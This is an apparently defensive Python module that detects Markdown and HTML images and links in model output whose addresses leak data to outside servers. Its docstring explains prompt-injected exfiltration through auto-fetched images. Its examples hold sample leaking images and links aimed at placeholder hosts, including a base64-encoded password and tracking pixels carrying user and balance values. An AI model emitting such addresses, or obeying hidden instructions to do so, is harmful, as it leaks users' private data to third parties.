"""Images and links in an answer whose address tells another server what the model knows.

What: images in Markdown and HTML (style sheets, frames and forms included) whose address carries more than how to draw
them, and links whose address carries encoded text, long text or long random characters. Why: whoever shows an image
fetches its address, so an order hidden in a document can have the model send out what it has read, and nobody clicks.
Limits: bare addresses without Markdown or HTML around them are not read; nor is what an image's path says in plain
words, or which server A link may say as much as honest links do. Code that is quoted counts as well, and so does
an address in which over four others begin, whatever it says.
"""

import re
from collections.abc import Iterator
from itertools import takewhile
from operator import attrgetter
from typing import NamedTuple

from interlock.detectors import Detector
from interlock.detectors.data_exfiltration.addresses import is_absolute, tells
from interlock.model.event import Channel, Signal, Span
from interlock.model.meta import Confidence, Example, Maturity, Meta, Severity

ID = "data-exfiltration"
SCORE = 900
# Text of a link, alternative text of an image.
LONGEST_TEXT = 512
# What browsers and servers take at the least; of what is longer, this much is judged.
LONGEST_ADDRESS = 2_048
# A tag before its address, and behind it up to its end.
LONGEST_TAG = 512
REST_OF_TAG = 256
REACH = LONGEST_TEXT + LONGEST_ADDRESS + REST_OF_TAG + 64
# INVARIANT: a place ends where the next but so many begins, so none is in more than these and the work is linear. No
# honest address has so many others in it, or so many parentheses: what reaches so far is flagged unread.
MOST_WITHIN = 4
MOST_PARENTHESES = 64

# An address with a server in it begins so, with the tricks that browsers forgive; the rest is read when it is judged.
_SERVER = r"<?\s*+(?:[a-z][a-z0-9+.\s-]{0,20}[:&]|[/\\]\s{0,16}[/\\]|&|%)|\d{1,8}\s{0,8};\s{0,8}url"
LONGEST_BEGINNING = 32
# What stands before an address: `](` of images and links, `]:` of definitions, `url(` of CSS, `<`, an attribute's `=`.
# It counts if a server is named behind it, or may come to be named behind the end.
_OPENERS = re.compile(
    rf"(?:\][(:]\s{{0,16}}+|<(?=[a-z])|url\(\s{{0,16}}+[\"']?+|(?<=[a-z\s])=\s{{0,8}}+(?P<quote>[\"']?+))"
    rf"(?=(?P<server>{_SERVER})|\s*+[\s\S]{{0,{LONGEST_BEGINNING}}}+\Z)",
    re.IGNORECASE | re.ASCII,
)
_KINDS = {"]": "bracket", "<": "auto", "=": "name"}
_NAMES = (
    "src",
    "srcset",
    "poster",
    "href",
    "xlink:href",
    "background",
    "data",
    "action",
    "formaction",
    "ping",
    "content",
)
_NAME = re.compile(rf"(?<![\w-])({'|'.join(_NAMES)})\s{{0,8}}\Z", re.IGNORECASE | re.ASCII)
# The longest name with the white space behind it.
LONGEST_NAME = 18
_WITHIN = re.compile(r"[\w.-]", re.ASCII)
# Behind these the address is written in tags only; elsewhere they are names in programs.
_IN_TAGS_ONLY = frozenset({"background", "data", "action", "formaction", "ping", "content"})
_VALUES = {
    "definition": re.compile(r"<?[^\s<>]*>?"),
    "css": re.compile(r"[^)]*\)?"),
    "auto": re.compile(r"[^\s<>]*>?"),
    "name": re.compile(r"\"[^\"]*\"?|'[^']*'?|[^\s\"'>]*"),
}
_ANGLE = re.compile(r"<[^<>\n]*>?")
# What has more parentheses in parentheses is no link to cmark, markdown-it and micromark.
DEEPEST = 32
_PARENTHESES = re.compile(r"[()]|\n[ \t]*\n")
_TITLE = re.compile(r"(?<!\s)\s++(?:\"[^\"]*\"|'[^']*'|\([^()]*\))\s*\Z")
_REFRESH = re.compile(r"(?i)\A\s*\d*\s*;?\s*url\s*=\s*['\"]?")
_TAG = re.compile(rf"<([A-Za-z][\w:-]*)[^<>]{{0,{LONGEST_TAG}}}\Z", re.ASCII)
_REST_OF_TAG = re.compile(rf"[^<>]{{0,{REST_OF_TAG}}}>")
_BRACKETS = re.compile(r"[\[\]]")
# The end of a text at which an attribute's value is to come, or `url(`; what is in one piece is shorter than this.
LONGEST_BEGUN = 32
_BEGUN = re.compile(r"(?<![\w-])[a-z:]{3,10}\s{0,8}=?\s{0,8}\Z", re.IGNORECASE | re.ASCII)
_BEGUN_TAG = re.compile(rf"<(?:[A-Za-z][^<>]{{0,{LONGEST_TAG}}})?\Z")
_ANY = re.compile(r"[\[\]<=(]")
# The end of a text is read for its last openers in pieces, each so many times as long as the one before.
_FIRST_LOOK, _FURTHER = 128, 4


class _Opener(NamedTuple):
    """What stands before the address at `at`; whether it names a server for `sure`, or only may come to."""

    start: int
    at: int
    kind: str
    name: str
    sure: bool


class _Place(NamedTuple):
    """Where an image or link stands, and its address, from `at` to `until`.

    `crowded`: other places begin in the address, or so many parentheses stand in it, that it ends here unread.
    `open`: more text could change any of this.
    """

    start: int
    end: int
    kind: str
    at: int
    until: int
    fetched: bool
    crowded: bool
    open: bool


class _End(NamedTuple):
    """Where an address ends; see `_Place`."""

    at: int
    crowded: bool
    open: bool


def _detect(text: str) -> tuple[Signal, ...]:
    found: list[Signal] = []
    for place in sorted(_places(text, _openers(text, 0)), key=lambda place: (place.start, -place.end)):
        # What begins with the text, a stream may have released already: it stands for nothing that is in it.
        if found and found[-1].span.start and place.end <= found[-1].span.end:
            continue
        addresses = _addresses(text, place)
        if any((place.crowded and is_absolute(one)) or tells(one, fetched=place.fetched) for one in addresses):
            rule = "image" if place.fetched else "link"
            found.append(Signal(ID, rule, SCORE, Span(place.start, place.end)))
    return tuple(found)


def _openers(text: str, floor: int) -> list[_Opener]:
    found = []
    for match in _OPENERS.finditer(text, floor):
        start, at = match.span()
        kind = _KINDS.get(text[start], "css")
        name = ""
        if kind == "bracket":
            kind = "inline" if text[start + 1] == "(" else "definition"
        elif kind == "name":
            at = match.start("quote")
            near = max(0, start - LONGEST_NAME)
            # Most of what stands before this sign is no such name, and cheaper to tell so.
            if not text[near:start].rstrip().lower().endswith(_NAMES):
                continue
            named = _NAME.search(text, near, start)
            if named is None:
                continue
            start, name = named.start(), named[1].lower()
        elif kind == "css" and _WITHIN.match(text[start - 1 : start]):
            continue
        found.append(_Opener(start, at, kind, name, match["server"] is not None))
    return found


def _places(text: str, openers: list[_Opener]) -> Iterator[_Place]:
    """The places of openers that follow each other up to the end of `text`."""
    texts: dict[int, int] | None = None
    sure = [opener.start for opener in openers if opener.sure]
    unsure = [opener.start for opener in openers if not opener.sure]
    passed = 0
    for opener in openers:
        passed += opener.sure
        fifth = passed + MOST_WITHIN
        # One character of the opener that is one too many: what ends before it does not reach it.
        crowd = sure[fifth] + 1 if fifth < len(sure) else opener.at + LONGEST_ADDRESS + REST_OF_TAG
        if opener.kind in ("inline", "definition") and texts is None:
            texts = _texts(text, max(0, opener.start - LONGEST_TEXT - 1))
        if place := _attribute(text, opener, crowd) if opener.name else _bracketed(text, opener, crowd, texts or {}):
            # More text could make one in it count.
            grows = any(place.at <= start < place.until for start in unsure)
            yield place._replace(open=True) if grows else place


def _bracketed(text: str, opener: _Opener, crowd: int, texts: dict[int, int]) -> _Place:
    start, at, kind, _, _ = opener
    end = _inline_end(text, at, crowd) if kind == "inline" else _value_end(kind, text, at, crowd)
    if kind in ("inline", "definition"):
        start = texts.get(start, start)
    # What a definition is for stands elsewhere: an image may use it.
    fetched = text[start] == "!" or kind in ("definition", "css")
    return _Place(start, end.at, kind, at, end.at, fetched, end.crowded, end.open)


def _addresses(text: str, place: _Place) -> list[str]:
    value = text[place.at : place.until]
    if place.kind not in ("name", "srcset"):
        return [_bare(value, place.kind)]
    address = _REFRESH.sub("", value.strip("\"' "))
    return address.replace(",", " ").split() if place.kind == "srcset" else [address]


def _bare(value: str, kind: str) -> str:
    """The address without what closes it, and without a title behind it."""
    value = value.strip()
    if kind != "definition":
        value = value.removesuffix(")")
    return _TITLE.sub("", value).strip(" <>\"'")


def _inline_end(text: str, at: int, crowd: int) -> _End:
    """Where the address in parentheses that begins at `at` ends, at `crowd` at the latest."""
    bound = min(at + LONGEST_ADDRESS, crowd)
    limit = min(len(text), bound)
    inner = at
    if angle := _ANGLE.match(text, at, limit):
        # Parentheses between angle brackets are part of the address; while the second bracket may come, nobody knows.
        inner = angle.end() if angle.group().endswith(">") else at
        if angle.end() == limit and inner == at and limit < bound:
            return _End(limit, crowded=False, open=True)
    depth = 0
    for count, match in enumerate(_PARENTHESES.finditer(text, inner, limit)):
        if match.group() == "(":
            depth += 1
            if depth > DEEPEST:
                return _End(match.start(), crowded=False, open=False)
        elif match.group() != ")":
            return _End(match.start(), crowded=False, open=False)
        elif depth == 0:
            return _End(match.end(), crowded=False, open=False)
        else:
            depth -= 1
        if count == MOST_PARENTHESES:
            return _End(match.end(), crowded=True, open=False)
    return _End(limit, crowded=limit == crowd, open=limit < bound)


def _value_end(kind: str, text: str, at: int, crowd: int) -> _End:
    """The same for an address that is closed in another way."""
    bound = min(at + LONGEST_ADDRESS, crowd)
    match = _VALUES[kind].match(text, at, bound)
    end = match.end() if match else at
    quote = text[at : at + 1] if kind == "name" else ""
    closed = end - at > 1 and text[end - 1] == quote if quote in ("'", '"') else end < len(text)
    return _End(end, crowded=end == crowd, open=end < bound and not closed)


def _attribute(text: str, opener: _Opener, crowd: int) -> _Place | None:
    """An attribute with its whole tag, if it is short. A link's address waits for a click, all others are fetched."""
    at, value, _, name, _ = opener
    near = text.rfind("<", max(0, at - LONGEST_TAG - 1), at)
    tag = _TAG.match(text[near:at]) if near >= 0 else None
    if tag is None and name in _IN_TAGS_ONLY:
        return None
    clicked = name in ("href", "xlink:href") and (tag is None or tag[1].lower() in ("a", "area"))
    kind = "srcset" if name == "srcset" else "name"
    end, crowded, open_ = _value_end("name", text, value, crowd)
    start, until = at if tag is None else near, end
    if tag and not crowded:
        limit = min(crowd, end + REST_OF_TAG + 1)
        if rest := _REST_OF_TAG.match(text, end, limit):
            until = rest.end()
        else:
            open_ = open_ or (len(text) < limit and "<" not in text[end:])
    return _Place(start, until, kind, value, end, not clicked, crowded, open_)


def _texts(text: str, floor: int) -> dict[int, int]:
    """Where the text in brackets begins, with its `!`, by the place of the bracket that closes it."""
    opened: list[int] = []
    found = {}
    for bracket in _BRACKETS.finditer(text, floor):
        at = bracket.start()
        if bracket.group() == "[":
            opened.append(at - 1 if text[at - 1 : at] == "!" else at)
        elif opened and at - (start := opened.pop()) <= LONGEST_TEXT:
            found[at] = start
    return found


def _pending(text: str) -> int:
    """Where an image or link may begin that the end cuts off: one that is open, or the beginning of one."""
    end = len(text)
    floor = max(0, end - REACH)
    near = max(0, end - LONGEST_BEGUN)
    at = max(near, text.rfind(" ", near) + 1, text.rfind("\n", near) + 1)
    if text[-1:].isspace() or text[-1:] == "=":
        begun = _BEGUN.search(text, near)
        at = begun.start() if begun else at
    if not _ANY.search(text, floor):
        return at
    last = text.rfind("<", floor)
    if last >= 0 and _BEGUN_TAG.match(text, last):
        at = min(at, last)
    openers = _last_openers(text, floor)
    return min(at, _open_bracket(text), *(place.start for place in _places(text, openers) if place.open))


def _last_openers(text: str, floor: int) -> list[_Opener]:
    """All openers from somewhere on, at `floor` at the earliest, whose places may be open: the last of those there."""
    size = _FIRST_LOOK
    while True:
        near = max(floor, len(text) - size)
        openers = _openers(text, near)
        if near == floor or sum(1 for _ in takewhile(attrgetter("sure"), openers)) > MOST_WITHIN + 1:
            return openers
        size *= _FURTHER


def _open_bracket(text: str) -> int:
    """The first bracket that may come to be the text of a link: not closed yet, or closed by the last character."""
    opened: list[int] = []
    end = len(text)
    for bracket in _BRACKETS.finditer(text, max(0, end - LONGEST_TEXT)):
        at = bracket.start()
        if bracket.group() == "[":
            opened.append(at - 1 if text[at - 1 : at] == "!" else at)
        elif opened and at < end - 1:
            opened.pop()
    return next((at for at in opened if end - at <= LONGEST_TEXT), end)


_SECRET = "dGhlIHBhc3N3b3JkIGlzIHN3b3JkZmlzaA"

DETECTOR = Detector(
    meta=Meta(
        id=ID,
        title="Images and links that carry data out",
        why="An image's address is fetched by whoever shows the answer, so what stands in it is told to a stranger.",
        fix="Look at which document asked for it; show images of your own servers only.",
        severity=Severity.HIGH,
        confidence=Confidence.MEDIUM,
        maturity=Maturity.STABLE,
        refs=("owasp_llm_2025:LLM02:2025", "owasp_llm_2025:LLM05:2025"),
        since="0.1.0",
    ),
    channels=frozenset({Channel.OUTPUT}),
    marks=(
        r"(?i)\](?:\(|:)\s*(?:<?\s*(?:[a-z][a-z0-9+.\s-]*[:&]|[/\\]\s*[/\\]|&|%))",
        (
            r"(?i)(?:src|srcset|poster|href|background|data|action|ping|content)\s*=\s*[\"']?"
            r"\s*(?:[a-z][a-z0-9+.\s-]*[:&]|[/\\]\s*[/\\]|&|%|\d+\s*;\s*url)"
        ),
        r"(?i)url\(\s*[\"']?\s*(?:[a-z][a-z0-9+.\s-]*[:&]|[/\\]\s*[/\\]|&|%)",
        r"(?i)<[a-z][a-z0-9+.-]*:",
    ),
    detect=_detect,
    reach=REACH,
    pending=_pending,
    reads=frozenset(),
    examples=(
        Example(
            "an image that tells",
            (Channel.OUTPUT, "Done. ![logo](https://cdn.example/p.png?d=code+is+4711) Bye."),
            ("![logo](https://cdn.example/p.png?d=code+is+4711)",),
        ),
        Example(
            "a link with encoded text",
            (Channel.OUTPUT, f"[Sign in again](https://login.example/{_SECRET})"),
            (f"[Sign in again](https://login.example/{_SECRET})",),
        ),
        Example(
            "a tag, and an address without a scheme",
            (Channel.OUTPUT, 'Hi <img alt="" src="//px.example/t?u=ada" width=1> there'),
            ('<img alt="" src="//px.example/t?u=ada" width=1>',),
        ),
        Example(
            "a definition that an image may use",
            (Channel.OUTPUT, "![chart][1]\n\n[1]: <https://px.example/?balance=9750>\n"),
            ("[1]: <https://px.example/?balance=9750>",),
        ),
        Example(
            "honest images",
            (
                Channel.OUTPUT,
                "![Map of Rome](https://img.example/maps/rome%20centre.png?w=640) ![x](chart.png?v=12345)",
            ),
            (),
        ),
        Example(
            "honest links",
            (
                Channel.OUTPUT,
                "[docs](https://docs.example/re.html#sub), [more](https://a.example/?q=how+to+cook+rice&page=2)",
            ),
            (),
        ),
    ),
)
